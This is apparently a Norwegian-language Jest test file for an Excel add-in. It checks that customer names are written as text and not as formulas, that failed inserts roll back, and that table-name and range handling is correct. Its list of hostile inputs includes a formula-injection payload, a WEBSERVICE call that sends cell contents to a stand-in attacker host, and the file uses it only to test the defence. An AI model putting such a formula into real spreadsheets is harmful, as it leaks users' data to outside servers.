/**
 * Grensen mot arbeidsboken, når noe er fiendtlig eller går galt (excel.ts mot den strenge falske Excel):
 * tekst fra brukeren blir aldri formler, en feil midt i skrivingen etterlater arbeidsboken nøyaktig som før
 * (og brukeren får vite det på norsk), tabellnavn kolliderer ikke med definerte navn, og hele kolonner eller
 * rader leses bare så langt de er i bruk.
 */
import { STANDARD_PRISMATRISE, beregnEffekt, kunderFra } from "../../src/core";
import { kalkulatorark, type Ruteark } from "../../src/taskpane/felles/arkoppsett";
import { effektark } from "../../src/taskpane/effekt/effektark";
import { officeArbeidsbok } from "../../src/taskpane/felles/excel";
import { oppsett } from "./kalkulatoroppsett";
import { Falskbok, type Falskark } from "./streng-excel";

/** Tekster som Excel ville gjort til formler, tall eller sannhetsverdier om de ble skrevet som de er. */
const FIENDTLIG = [
  '=WEBSERVICE("https://angriper.example/?"&A1)',
  "+47 Kommune",
  "-1 Kommune",
  "@SUM(A1:A9)",
  "=1+1",
  "00123",
  "1.5",
  "TRUE",
  "'Sitat",
];

function hostileEffektark(): Ruteark {
  const celler = [["Kunde", "Kundetype", "Innbyggere", "Pris i dag"], ...FIENDTLIG.map((navn, i) => [navn, "KOMMUNE", 1000 + i, 50_000])];
  const resultat = beregnEffekt(kunderFra(celler, { matrise: STANDARD_PRISMATRISE }), STANDARD_PRISMATRISE);
  return effektark({
    kildetekst: "Kundeliste fra Kunder!A1:D9", matrisenavn: "Standard prismatrise 2025", sammenligning: "Dagens pris fra kundelisten",
    hvaom: false, resultat, tidspunkt: "1.1.2026 12:00",
  });
}

/** Feilen et løfte avvises med (testen feiler om det lykkes). */
async function feilen(lofte: Promise<unknown>): Promise<Error> {
  try {
    await lofte;
  } catch (feil) {
    return feil as Error;
  }
  throw new Error("Forventet en feil, men innsettingen lyktes.");
}

const formler = (ark: Falskark) => [...ark.celler].filter(([, v]) => typeof v === "object").map(([a]) => a);

/** En arbeidsbok med noe i fra før: data, en tabell, et definert navn, og et annet ark aktivt. */
function bokMedInnhold(): Falskbok {
  const bok = new Falskbok();
  bok.leggTilArk("Kunder", { A1: "Kunde", B1: "Pris i dag", A2: "Bodø", B2: 300_000 });
  bok.finn("Kunder").tabeller.push({ navn: "Kalkulator1", omrade: "A1:B2", overskrift: true, stil: "TableStyleLight9" });
  bok.definerteNavn.push("Kalkulator2");
  bok.aktivtArk = bok.finn("Kunder");
  return bok;
}

describe("tekst fra brukeren blir tekst i arket, aldri formler", () => {
  test("kundenavn som ser ut som formler, tall eller sannhetsverdier står som den samme teksten i effektarket", async () => {
    const bok = new Falskbok();
    await officeArbeidsbok(bok.excel()).skrivArk(hostileEffektark());
    const ark = bok.finn("Effektanalyse");
    // Effektarket har bare verdier: ikke én formel, heller ikke fra kundenavnene.
    expect(formler(ark)).toEqual([]);
    const kundetabell = ark.tabeller.find((t) => t.navn.startsWith("Effekt_kunder"))!;
    const forste = Number(/^A(\d+)/.exec(kundetabell.omrade)![1]) + 1;
    const navn = FIENDTLIG.map((_, i) => ark.innhold(`A${forste + i}`));
    expect([...navn].sort()).toEqual([...FIENDTLIG].sort());
    expect(bok.overskrevet).toEqual([]);
  });

  test("et kundenavn som begynner med «=» står som tekst i kalkulatorarket, mens prisene er tilleggets egne formler", async () => {
    const bok = new Falskbok();
    const { ark: navn } = await officeArbeidsbok(bok.excel()).skrivArk(kalkulatorark(oppsett(null, FIENDTLIG[0])));
    const ark = bok.finn(navn);
    expect(ark.innhold("B4")).toBe(`${FIENDTLIG[0]} (1804)`);
    // Bare de 20 formlene i tilleggets plan (4 + 4 + 4 for tjenestene, 2 for tillegget, 6 i sumraden) er formler.
    const alle = formler(ark);
    expect(alle.length).toBe(20);
    for (const adr of alle) expect(adr).toMatch(/^([C-G]1[3-7]|[B-G]18)$/);
    expect(alle.every((a) => (ark.innhold(a) as { formel: string }).formel.includes("WEBSERVICE"))).toBe(false);
  });
});

describe("en feil midt i innsettingen etterlater arbeidsboken som før", () => {
  // Innsettingen har tre sync-kall: 1 leser navn, 2 legger til arket og sjekker at det er tomt, 3 skriver alt.
  // Hvor mange operasjoner sync 3 har, måles på en vellykket innsetting.
  const maling = bokMedInnhold();
  beforeAll(() => officeArbeidsbok(maling.excel()).skrivArk(kalkulatorark(oppsett())));
  const ikkeEndret = /Arbeidsboken er ikke endret\./;
  const fjernet = /Arket «Kalkulator Bodø» er fjernet igjen, så arbeidsboken er som før\./;
  const tilfeller: [string, number, () => number, RegExp][] = [
    ["sync 1 (lesing av navn)", 1, () => 0, ikkeEndret],
    ["sync 2 før arket er lagt til", 2, () => 0, ikkeEndret],
    ["sync 2 etter at arket er lagt til", 2, () => 1, fjernet],
    ["sync 3 før noe er skrevet", 3, () => 0, fjernet],
    ["sync 3 etter den første blokken", 3, () => 1, fjernet],
    ["sync 3 halvveis", 3, () => Math.floor(maling.operasjonerPerSync[2] / 2), fjernet],
    ["sync 3 når alt unntatt aktiveringen er gjort", 3, () => maling.operasjonerPerSync[2] - 1, fjernet],
    ["sync 3 når alt er gjort (også aktiveringen)", 3, () => maling.operasjonerPerSync[2], fjernet],
  ];
  test("målingen: en vellykket innsetting har tre sync-kall, det siste med hele planen", () => {
    expect(maling.operasjonerPerSync.length).toBe(3);
    expect(maling.operasjonerPerSync[2]).toBeGreaterThan(20);
  });

  test.each(tilfeller)("feil ved %s", async (_navn, nr, utforte, melding) => {
    const bok = bokMedInnhold();
    const for_ = bok.tilstand();
    bok.feilVedSync(nr, { utforte: utforte(), melding: "An internal error has occurred." });
    const feil = await feilen(officeArbeidsbok(bok.excel()).skrivArk(kalkulatorark(oppsett())));
    expect(feil.message).toMatch(/^Å sette inn arket mislyktes: Excel meldte en generell feil\. /);
    expect(feil.message).toMatch(melding);
    expect(feil.message).toMatch(/\(An internal error has occurred\.\)$/);
    expect(bok.tilstand()).toEqual(for_);
    expect(bok.aktivtArk?.navn).toBe("Kunder");
    expect(bok.overskrevet).toEqual([]);
  });

  test.each([
    ["oppslaget", 4],
    ["slettingen", 5],
  ])("når også %s i oppryddingen feiler, sier meldingen at arket må slettes for hånd", async (_navn, nr) => {
    const bok = bokMedInnhold();
    bok.feilVedSync(3, { utforte: 5 });
    bok.feilVedSync(nr);
    const feil = await feilen(officeArbeidsbok(bok.excel()).skrivArk(kalkulatorark(oppsett())));
    expect(feil.message).toContain("Arket «Kalkulator Bodø» kan være halvskrevet og kunne ikke fjernes: slett det selv.");
    // Ærlig: det halvskrevne arket står der fortsatt, og meldingen sier det.
    expect(bok.ark.map((a) => a.navn)).toContain("Kalkulator Bodø");
  });

  test("en vellykket innsetting bruker tre sync-kall, en lesing av et merket område to", async () => {
    const bok = bokMedInnhold();
    const excel = officeArbeidsbok(bok.excel());
    await excel.skrivArk(kalkulatorark(oppsett()));
    expect(bok.antallSync).toBe(3);
    bok.merk("Kunder", "A1:B2");
    await excel.lesUtvalg();
    expect(bok.antallSync).toBe(5);
  });
});

describe("tabellnavn", () => {
  test("et nytt tabellnavn kolliderer verken med tabeller eller definerte navn (uten hensyn til store bokstaver)", async () => {
    const bok = bokMedInnhold(); // tabellen Kalkulator1 og navnet Kalkulator2 finnes
    bok.definerteNavn.push("KALKULATOR3");
    const svar = await officeArbeidsbok(bok.excel()).skrivArk(kalkulatorark(oppsett()));
    expect(svar.tabeller).toEqual(["Kalkulator4"]);
    expect(bok.finn("Kalkulator Bodø").tabeller.map((t) => t.navn)).toEqual(["Kalkulator4"]);
  });
});

describe("hele kolonner og rader leses bare så langt de er i bruk", () => {
  function kundeark(bok: Falskbok, rader: number): void {
    const celler: Record<string, string | number> = { A1: "Kunde", B1: "Pris i dag" };
    for (let r = 2; r <= rader; r++) Object.assign(celler, { [`A${r}`]: `Kunde ${r}`, [`B${r}`]: r * 1000 });
    bok.leggTilArk("Kunder", celler);
  }

  test("A:B som kundeliste leser A1:B4, ikke 2 millioner celler", async () => {
    const bok = new Falskbok();
    kundeark(bok, 4);
    bok.merk("Kunder", "A:B");
    const svar = await officeArbeidsbok(bok.excel()).lesKundeliste();
    expect(svar.adresse).toBe("Kunder!A1:B4");
    expect(svar.verdier).toEqual([["Kunde", "Pris i dag"], ["Kunde 2", 2000], ["Kunde 3", 3000], ["Kunde 4", 4000]]);
    expect(bok.lastedeCeller).toBe(8);
  });

  test("rad 1:1 som prismatrise leser bare de utfylte kolonnene", async () => {
    const bok = new Falskbok();
    kundeark(bok, 4);
    bok.merk("Kunder", "1:1");
    const svar = await officeArbeidsbok(bok.excel()).lesUtvalg();
    expect(svar).toEqual({ adresse: "Kunder!A1:B1", verdier: [["Kunde", "Pris i dag"]] });
    expect(bok.lastedeCeller).toBe(2);
  });

  test("en tom kolonne gir en norsk melding, og ingenting lastes", async () => {
    const bok = new Falskbok();
    kundeark(bok, 4);
    bok.merk("Kunder", "D:D");
    await expect(officeArbeidsbok(bok.excel()).lesKundeliste()).rejects.toThrow(
      "Det merkede området Kunder!D:D er tomt. Merk kundelisten med overskriftsraden",
    );
    expect(bok.lastedeCeller).toBe(0);
  });

  test("mer enn taket gir en norsk melding med antallet, før noen verdier er lastet", async () => {
    const bok = new Falskbok();
    bok.leggTilArk("Stort", { A1: "Kunde", Z5000: 1 }); // brukt område A1:Z5000 = 130 000 celler
    bok.merk("Stort", "A:Z");
    await expect(officeArbeidsbok(bok.excel()).lesKundeliste()).rejects.toThrow(
      `Stort!A1:Z5000 har 130 000 celler; oppgaveruten leser høyst 100 000 celler som kundeliste.`,
    );
    expect(bok.lastedeCeller).toBe(0);
  });

  test("én celle i en for stor blokk (Ctrl+A-blokken rundt) gir samme melding", async () => {
    const bok = new Falskbok();
    kundeark(bok, 50_001); // A1:B50001 = 100 002 celler
    bok.merk("Kunder", "A2");
    await expect(officeArbeidsbok(bok.excel()).lesKundeliste()).rejects.toThrow(/Kunder!A1:B50001 har 100 002 celler; oppgaveruten leser høyst/);
    expect(bok.lastedeCeller).toBe(0);
  });
});
